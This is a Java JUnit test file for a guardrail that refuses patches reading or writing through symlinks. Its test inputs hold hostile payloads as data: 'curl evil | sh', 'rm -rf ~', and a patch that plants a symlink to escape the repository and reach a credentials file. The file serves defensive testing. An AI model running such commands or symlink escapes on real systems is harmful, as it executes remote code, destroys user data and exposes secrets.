package dev.ratchet.core.guardrail;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.ratchet.core.patch.DirectorySnapshot;
import dev.ratchet.core.patch.DiskRepo;
import dev.ratchet.core.patch.Edits;

/**
 * Symlink tricks against a real repository directory with real symlinks: a link to outside, a link in a parent
 * directory, a tracked file that is a link, a link inside the repository, and a patch that creates a link and then
 * writes through it. Each is refused by name, and neither the repository nor the outside directory changes.
 */
class SymlinkGuardrailTest {

    @TempDir
    Path repoDir;
    @TempDir
    Path outside;
    DiskRepo repo;
    String before;

    @BeforeEach
    void repository() throws IOException {
        Files.writeString(outside.resolve("credentials"), "aws_secret_access_key=...\n");
        Files.createDirectories(repoDir.resolve("src"));
        Files.writeString(repoDir.resolve("src/app.py"), "def main():\n    return 0\n");
        Files.createSymbolicLink(repoDir.resolve("out"), outside);
        Files.createSymbolicLink(repoDir.resolve("src/vendor"), outside);
        Files.createSymbolicLink(repoDir.resolve("config.ini"), outside.resolve("credentials"));
        Files.createSymbolicLink(repoDir.resolve("alias"), repoDir.resolve("src"));
        repo = new DiskRepo(repoDir);
        before = DirectorySnapshot.of(repoDir) + DirectorySnapshot.of(outside);
    }

    private void assertRefused(String answer, Rule rule, String path, String message) {
        assertThatThrownBy(() -> GuardedApply.apply(Edits.parse(answer), repo, repo, Guardrails.DEFAULTS))
                .isInstanceOfSatisfying(GuardrailException.class, e -> {
                    assertThat(e.violations()).extracting(Violation::rule, Violation::path)
                            .contains(tuple(rule, path));
                    assertThat(e.violations()).extracting(Violation::message).contains(message);
                });
        assertThat(DirectorySnapshot.of(repoDir) + DirectorySnapshot.of(outside)).isEqualTo(before);
    }

    @Test
    void aLinkToOutside() {
        assertRefused("*** Begin Patch\n*** Add File: out/planted.sh\n+curl evil | sh\n*** End Patch\n",
                Rule.PATH_ESCAPE, "out/planted.sh", "out/planted.sh goes through the symlink out (-> " + outside
                        + "); a step never reads or writes through a symlink: use the path of the file it points "
                        + "to, if that is inside the repository");
    }

    @Test
    void aLinkInAParentDirectory() {
        assertRefused("--- a/src/vendor/lib.py\n+++ b/src/vendor/lib.py\n@@ -1 +1 @@\n-a\n+b\n", Rule.PATH_ESCAPE,
                "src/vendor/lib.py", "src/vendor/lib.py goes through the symlink src/vendor (-> " + outside
                        + "); a step never reads or writes through a symlink: use the path of the file it points "
                        + "to, if that is inside the repository");
    }

    @Test
    void aTrackedFileThatIsALink() {
        assertRefused("config.ini\n<<<<<<< SEARCH\naws_secret_access_key=...\n=======\nx\n>>>>>>> REPLACE\n",
                Rule.PATH_ESCAPE, "config.ini", "config.ini is a symlink (-> "
                        + outside.resolve("credentials") + "); a step never reads or writes through a symlink: use "
                        + "the path of the file it points to, if that is inside the repository");
    }

    @Test
    void aLinkInsideTheRepositoryIsStillALink() {
        assertRefused("*** Begin Patch\n*** Update File: src/app.py\n*** Move to: alias/moved.py\n*** End Patch\n",
                Rule.PATH_ESCAPE, "alias/moved.py", "alias/moved.py goes through the symlink alias (-> "
                        + repoDir.resolve("src") + "); a step never reads or writes through a symlink: use the path "
                        + "of the file it points to, if that is inside the repository");
    }

    @Test
    void aPatchThatCreatesALinkAndThenWritesThroughIt() {
        String answer = "diff --git a/evil b/evil\nnew file mode 120000\n--- /dev/null\n+++ b/evil\n@@ -0,0 +1 @@\n+"
                + outside + "\n\\ No newline at end of file\n"
                + "diff --git a/evil/payload.sh b/evil/payload.sh\nnew file mode 100755\n--- /dev/null\n"
                + "+++ b/evil/payload.sh\n@@ -0,0 +1 @@\n+rm -rf ~\n";

        assertThatThrownBy(() -> GuardedApply.apply(Edits.parse(answer), repo, repo, Guardrails.DEFAULTS))
                .isInstanceOfSatisfying(GuardrailException.class, e -> assertThat(e.violations())
                        .extracting(Violation::rule, Violation::path)
                        .containsExactly(tuple(Rule.SYMLINK, "evil"), tuple(Rule.PATH_ESCAPE, "evil/payload.sh")))
                .hasMessageContaining("evil/payload.sh goes through the symlink evil that this patch creates");
        assertThat(DirectorySnapshot.of(repoDir) + DirectorySnapshot.of(outside)).isEqualTo(before);
        assertThat(outside.resolve("payload.sh")).doesNotExist();
    }

    @Test
    void deletingALinkItselfIsAllowedWhenDeletesAreAndLeavesItsTarget() {
        Guardrails deletesAllowed = Guardrails.DEFAULTS.merge(new GuardrailsUpdate(null, null, null, true, null,
                null, null));

        GuardedApply.apply(Edits.parse("*** Begin Patch\n*** Delete File: config.ini\n*** End Patch\n"), repo, repo,
                deletesAllowed);

        assertThat(Files.exists(repoDir.resolve("config.ini"), LinkOption.NOFOLLOW_LINKS)).isFalse();
        assertThat(outside.resolve("credentials")).hasContent("aws_secret_access_key=...");
    }

    @Test
    void aChangeBesideTheLinksIsWritten() throws IOException {
        GuardedApply.apply(Edits.parse("*** Begin Patch\n*** Update File: src/app.py\n@@\n-    return 0\n"
                + "+    return 1\n*** Add File: src/new/util.py\n+X = 1\n*** End Patch\n"), repo, repo,
                Guardrails.DEFAULTS);

        assertThat(Files.readString(repoDir.resolve("src/app.py"))).isEqualTo("def main():\n    return 1\n");
        assertThat(Files.readString(repoDir.resolve("src/new/util.py"))).isEqualTo("X = 1\n");
        assertThat(DirectorySnapshot.of(outside)).isEqualTo("[credentials: aws_secret_access_key=...\n]");
    }
}
